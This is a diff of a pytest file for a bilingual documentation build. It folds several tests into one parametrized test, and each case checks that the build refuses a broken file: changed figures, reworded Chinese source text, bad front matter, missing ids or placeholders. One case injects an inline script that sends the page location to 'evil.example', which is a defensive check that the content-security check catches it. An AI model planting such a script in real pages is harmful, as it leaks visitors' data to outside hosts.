@@ -6,6 +6,8 @@ builds it in this process; the checks' own tests (test_check_*.py) cover their l
 
 from __future__ import annotations
 
+import pytest
+
 from building import build, line_of, refused, replace_in
 
 
@@ -30,54 +32,68 @@ def test_deleting_an_english_page_fails_naming_it(tiny_project):
     assert "docs/overview.en.md does not exist" in output
 
 
-def test_changing_a_figure_in_the_english_fails_naming_the_file(tiny_project):
-    replace_in(tiny_project / "docs" / "overview.en.md", "85 of the region's 95", "85 of the region's 59")
-    output = refused(tiny_project)
-    assert f"[numbers] docs/overview.en.md:{line_of(tiny_project / 'docs' / 'overview.en.md', '{#ov-2}')}:" in output
-    assert "lacks the figure 95" in output and "has the figure 59" in output
-
-
-def test_dropping_a_source_sentence_fails_naming_the_file(tiny_project):
-    replace_in(tiny_project / "docs" / "overview.zh.md", "多次在全国会议上作典型经验发言；", "")
-    output = refused(tiny_project)
-    assert "[source-text] docs/overview.zh.md:" in output
-    assert "多次在全国会议上作典型经验发言" in output
-
-
-def test_rewording_the_chinese_fails_naming_the_file(tiny_project):
-    """The source's slip is kept: "correcting" it silently is a change of the source's words."""
-    replace_in(tiny_project / "docs" / "overview.zh.md", "截止〔截至〕目前", "截至目前")
-    output = refused(tiny_project)
-    assert "[source-text] docs/overview.zh.md:" in output
-
-
-def test_broken_front_matter_fails_naming_file_and_line(tiny_project):
-    replace_in(tiny_project / "docs" / "about.en.md", "title: About this edition", "title: About: this: edition")
-    output = refused(tiny_project)
-    assert "[front-matter] docs/about.en.md:3: front matter does not parse" in output
-
-
-def test_a_paragraph_id_missing_from_one_language_fails(tiny_project):
-    replace_in(tiny_project / "docs" / "overview.en.md", "{#ov-3}", "")
-    output = refused(tiny_project)
-    assert "[paragraph-ids] docs/overview.en.md:" in output and "'#ov-3'" in output
-
-
-def test_a_template_that_adds_an_inline_script_fails_naming_the_built_page(tiny_project):
-    """What no check of docs/ sees (a template in overrides/): the built pages are checked too."""
-    replace_in(
-        tiny_project / "overrides" / "main.html",
+# Each: (file, text, replaced by, a line whose number ``{line}`` stands for, what the output must say).
+REFUSALS = {
+    "a figure changed in the English": (
+        "docs/overview.en.md",
+        "85 of the region's 95",
+        "85 of the region's 59",
+        "{#ov-2}",
+        ["[numbers] docs/overview.en.md:{line}:", "lacks the figure 95", "has the figure 59"],
+    ),
+    "a source sentence dropped": (
+        "docs/overview.zh.md",
+        "多次在全国会议上作典型经验发言；",
+        "",
+        None,
+        ["[source-text] docs/overview.zh.md:", "多次在全国会议上作典型经验发言"],
+    ),
+    # The source's slip is kept: "correcting" it silently is a change of the source's words.
+    "the Chinese reworded": (
+        "docs/overview.zh.md",
+        "截止〔截至〕目前",
+        "截至目前",
+        None,
+        ["[source-text] docs/overview.zh.md:"],
+    ),
+    "front matter that does not parse": (
+        "docs/about.en.md",
+        "title: About this edition",
+        "title: About: this: edition",
+        None,
+        ["[front-matter] docs/about.en.md:3: front matter does not parse"],
+    ),
+    "a paragraph id missing from one language": (
+        "docs/overview.en.md",
+        "{#ov-3}",
+        "",
+        None,
+        ["[paragraph-ids] docs/overview.en.md:", "'#ov-3'"],
+    ),
+    # The interface strings (docs/data/strings.<lang>.yml) are checked in every build too.
+    "a string that loses its placeholder": (
+        "docs/data/strings.en.yml",
+        "cite_label: Cite paragraph {id}",
+        "cite_label: Cite this paragraph",
+        "cite_label:",
+        ["[strings] docs/data/strings.en.yml:{line}:", "'page.cite_label'"],
+    ),
+    # What no check of docs/ sees (a template in overrides/): the built pages are checked too.
+    "a template that adds an inline script": (
+        "overrides/main.html",
         "{% block scripts %}\n",
         "{% block scripts %}\n  <script>fetch('https://evil.example/?' + location)</script>\n",
-    )
-    output = refused(tiny_project)
-    assert "[csp] site/en/overview/index.html:1: the built page has an inline script the theme does not write" in output
+        None,
+        ["[csp] site/en/overview/index.html:1: the built page has an inline script the theme does not write"],
+    ),
+}
 
 
-def test_a_string_that_loses_its_placeholder_fails_naming_the_catalogue(tiny_project):
-    """The interface strings (docs/data/strings.<lang>.yml) are checked in every build too."""
-    catalogue = tiny_project / "docs" / "data" / "strings.en.yml"
-    replace_in(catalogue, "cite_label: Cite paragraph {id}", "cite_label: Cite this paragraph")
+@pytest.mark.parametrize("case", REFUSALS, ids=list(REFUSALS))
+def test_a_broken_file_fails_naming_file_and_line(tiny_project, case):
+    path, old, new, marker, expected = REFUSALS[case]
+    replace_in(tiny_project / path, old, new)
     output = refused(tiny_project)
-    assert f"[strings] docs/data/strings.en.yml:{line_of(catalogue, 'cite_label:')}:" in output
-    assert "'page.cite_label'" in output
+    line = str(line_of(tiny_project / path, marker)) if marker else ""
+    for phrase in expected:
+        assert phrase.replace("{line}", line) in output, f"{phrase!r} not in:\n{output}"
